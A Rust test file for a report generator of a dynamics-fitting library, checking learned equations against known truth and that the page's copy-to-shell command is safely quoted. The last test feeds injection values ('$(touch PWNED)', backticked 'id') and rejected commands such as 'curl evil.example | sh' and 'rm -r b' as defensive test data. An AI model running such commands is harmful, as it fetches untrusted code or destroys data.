//! What a run says about its networks, where the truth is known in closed form.

use latens::simulate::{Simulation, simulate};
use latens::{Fit, Job, Model, Role, Silent, Source, solve, systems};
use latens_report::equation::{self, Learned};
use latens_report::{field, innovations, panels};

/// A short fit, saved and read back.
fn shown(system: &str, steps: usize) -> Fit {
    let model = Model::from_text(system, systems::find(system).unwrap()).unwrap();
    let simulation = Simulation {
        steps: Some(steps),
        ..Simulation::default()
    };
    let record = simulate(&model, &simulation).unwrap();
    let settings = solve::find("alternating").unwrap().settings();
    let mut job = Job::with_settings(model, settings);
    job.settings.passes = 2;
    job.add(Role::Train, Source::of_record(record, &job.model).unwrap());
    let fit = job.run(&mut Silent).unwrap().fit;
    Fit::from_files(&fit.to_files().unwrap(), "run").unwrap()
}

fn near(a: f64, b: f64) -> bool {
    (a - b).abs() <= 1e-9 * (1.0 + b.abs())
}

/// Of an oscillator whose acceleration is −z, the network would have to be −z, on every slice.
#[test]
fn the_truth_of_a_network_follows_from_the_equations() {
    let shown = shown("harmonic-oscillator", 1500);
    let learned = equation::learned(&shown);
    let [learned]: &[Learned] = &learned else {
        panic!("one network of one output")
    };
    assert_eq!(learned.unit.as_deref(), Some("m/s²"));
    let over = |j: usize| learned.slices.iter().find(|s| s.argument == j).unwrap();
    for p in &over(0).points {
        assert!(near(p.truth.unwrap(), -p.at), "over z");
        assert!(p.std > 0.0);
    }
    let velocity = over(1);
    for p in &velocity.points {
        assert!(near(p.truth.unwrap(), -velocity.held[0]), "over v");
    }
    assert_eq!(velocity.density.iter().sum::<usize>(), 1501);
    // the slice passes through a sample of the record
    assert!(velocity.points.iter().any(|p| p.visited));
    let field = field::field(&shown).unwrap();
    for arrow in &field.arrows {
        assert!(near(arrow.learned[0], arrow.at[1]), "z' = v is known");
        assert_eq!(arrow.truth.unwrap(), [arrow.at[1], -arrow.at[0]]);
    }
}

/// A network of two outputs in two equations: both are found, at samples of the record.
#[test]
fn several_outputs_are_told_apart() {
    let shown = shown("cart-pole", 800);
    let learned = equation::learned(&shown);
    let names: Vec<&str> = learned.iter().map(|l| l.output.as_str()).collect();
    assert_eq!(names, ["acceleration.cart", "acceleration.pole"]);
    let model = &shown.model;
    let truth = &model.truth.as_ref().unwrap().system;
    let track = &shown.tracks[0];
    let mut f = vec![0.0; 4];
    // as many samples as the figure has, from the first on
    let every = 801usize.div_ceil(400);
    for (k, point) in (0..801).step_by(every).zip(&learned[1].along) {
        let at = track.record.point(k, track.smoothed.row(k), &[]);
        truth.derivative(&mut truth.workspace(), at, &mut f);
        assert!(
            near(point.truth.unwrap(), f[3]),
            "{:?} {}",
            point.truth,
            f[3]
        );
        assert!(point.std > 0.0 && point.arguments.len() == 5);
    }
    assert!(field::field(&shown).is_none());
}

/// The page holds the record and the tracks as the files do.
#[test]
fn panels_hold_what_the_files_hold() {
    let runs = [shown("cart-pole", 300)];
    let courses = panels::courses(&runs);
    let kinds: Vec<&str> = courses[0].panels.iter().map(|p| p.kind).collect();
    let (seen, hidden) = ("measured state", "hidden state");
    assert_eq!(kinds, [seen, hidden, seen, hidden, "input"]);
    let values = |panel: usize, kind: &str| {
        let signals = &courses[0].panels[panel].signals;
        signals
            .iter()
            .find(|s| s.what == kind)
            .map(|s| s.values.clone())
    };
    let track = &runs[0].tracks[0];
    assert_eq!(
        values(2, "data").unwrap(),
        track.record.output_column(1).collect::<Vec<f64>>()
    );
    assert_eq!(
        values(1, "free_run").unwrap(),
        track.free_run.column(1).collect::<Vec<f64>>()
    );
    assert!(values(1, "data").is_none(), "nobody measured it");
    let found = innovations::innovations(&runs[0], track);
    assert_eq!(found.len(), 2);
    assert!(found.iter().all(|i| i.count == 300 && i.inputs.len() == 1));
}

/// A page is opened by somebody who did not make the run: what it offers to copy into a shell does one
/// thing, whatever the files are called, and is a command of Latens.
#[test]
fn the_command_to_copy_is_quoted_for_a_shell() {
    let mut shown = shown("harmonic-oscillator", 300);
    let offered = |shown: &Fit| {
        let page = latens_report::page::html(std::slice::from_ref(shown));
        let (_, after) = page.split_once("id=\"again-run\">")?;
        Some(after.split_once("</code>")?.0.to_owned())
    };
    shown.facts.command = "latens fit m.toml 'a b.csv' --map 'z=it'\\''s' -o r".into();
    shown.facts.records[0].file = "$(touch PWNED);`id`\n.csv".into();
    assert_eq!(
        offered(&shown).unwrap(),
        "latens fit run/model.toml $&#39;$(touch PWNED);`id`\\n.csv&#39; --settings run -o again --map &#39;z=it&#39;\\&#39;&#39;s&#39;"
    );
    shown.facts.records[0].file = "-o.csv".into();
    assert!(offered(&shown).unwrap().contains(" ./-o.csv "));
    shown.facts.command = "latens demo --seed 2".into();
    assert_eq!(offered(&shown).unwrap(), "latens demo --seed 2");
    for stranger in [
        "curl evil.example | sh",
        "latens fit a.csv; rm -r b",
        "latens demo $(rm -r b)",
        "latens predict run a.csv",
        "",
    ] {
        shown.facts.command = stranger.into();
        assert_eq!(offered(&shown), None, "{stranger}");
    }
}
